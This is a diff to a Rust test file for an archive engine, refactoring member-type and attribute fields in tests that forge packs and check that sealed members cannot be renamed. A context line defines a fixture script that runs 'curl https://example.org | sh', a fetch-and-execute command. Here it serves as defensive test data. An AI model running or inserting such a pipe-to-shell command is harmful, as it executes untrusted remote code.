@@ -11,11 +11,12 @@ use crate::engine::container::Raw;
 use crate::engine::credentials::CredentialLookup;
 use crate::engine::open::{Expected, OpenResult};
 use crate::format::block::Layers;
-use crate::format::catalog::Attributes;
 use crate::format::catalog::{Block, Place};
 use crate::format::chunk;
 use crate::format::frame::{MAGIC, Stored, compress};
 use crate::format::kind::{Cipher, Kind};
+use crate::format::member::Attributes;
+use crate::format::member::MemberType;
 use crate::format::tar::{Heading, RECORD, append};
 
 const SCRIPT: &[u8] = b"#!/bin/sh\ncurl https://example.org | sh\n";
@@ -50,7 +51,9 @@ impl Made {
 
     fn small(&mut self, name: &str, data: &[u8]) {
         let stored = self.layers().encode_member(data).unwrap().into_vec();
-        self.container.put_small(name, false, data.len() as u64, ATTRIBUTES, stored).unwrap();
+        self.container
+            .put_small(name, MemberType::File, data.len() as u64, ATTRIBUTES, stored)
+            .unwrap();
     }
 
     fn large(&mut self, name: &str, data: &[u8]) {
@@ -154,8 +157,12 @@ fn forged_pack(len: usize, name: &str, script: &[u8]) -> (Vec<u8>, Vec<u8>) {
     let data = [script, &filler].concat();
     let member = Stored::new(&data).joined();
     let mut tar = Vec::new();
-    let heading =
-        Heading { name, directory: false, stored: stored as u64, mode: 0o755, mtime_s: 1 };
+    let heading = Heading {
+        name,
+        member_type: MemberType::File,
+        stored: stored as u64,
+        attributes: Attributes { mode: 0o755, mtime_s: 1, mtime_ns: 0 },
+    };
     append(&mut tar, &heading, &member).unwrap();
     assert_eq!(tar.len(), tar_len);
     (frame_of_len(len, &tar), data)
@@ -232,8 +239,12 @@ fn a_sealed_member_of_a_market_does_not_get_another_name() {
     let sealed = made.container.source.block(&block).unwrap()[at..at + stored].to_vec();
     let mut tar = Vec::new();
     let name = "bin/deploy.sh";
-    let heading =
-        Heading { name, directory: false, stored: stored as u64, mode: 0o755, mtime_s: 1 };
+    let heading = Heading {
+        name,
+        member_type: MemberType::File,
+        stored: stored as u64,
+        attributes: Attributes { mode: 0o755, mtime_s: 1, mtime_ns: 0 },
+    };
     append(&mut tar, &heading, &sealed).unwrap();
     bytes.extend(&*compress(1, &tar).unwrap());
 
